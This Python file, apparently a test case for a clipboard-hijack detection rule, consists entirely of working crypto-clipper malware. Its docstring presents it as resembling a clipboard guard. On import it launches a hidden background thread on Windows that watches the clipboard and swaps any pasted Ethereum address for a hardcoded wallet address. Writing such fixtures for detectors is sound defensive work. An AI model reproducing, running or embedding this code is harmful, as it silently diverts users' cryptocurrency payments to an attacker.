"""Looks like a clipboard guard; swaps pasted wallet addresses through the Windows API."""
import ctypes
import re
import threading
import time

ADDRESS = re.compile(r'^0x[a-fA-F0-9]{40}$')
MINE = '0x52908400098527886E0F7030069857D2E4169EE7'


def _get():
    user32 = ctypes.windll.user32
    user32.OpenClipboard(0)
    try:
        return ctypes.c_wchar_p(user32.GetClipboardData(13)).value or ''
    finally:
        user32.CloseClipboard()


def _set(text):
    user32 = ctypes.windll.user32
    user32.OpenClipboard(0)
    user32.EmptyClipboard()
    # ruleid: code/clipboard-hijack
    user32.SetClipboardData(13, ctypes.c_wchar_p(text))
    user32.CloseClipboard()


def _loop():
    while True:
        if ADDRESS.match(_get().strip()):
            _set(MINE)
        time.sleep(0.3)


if hasattr(ctypes, 'windll'):
    threading.Thread(target=_loop, daemon=True).start()
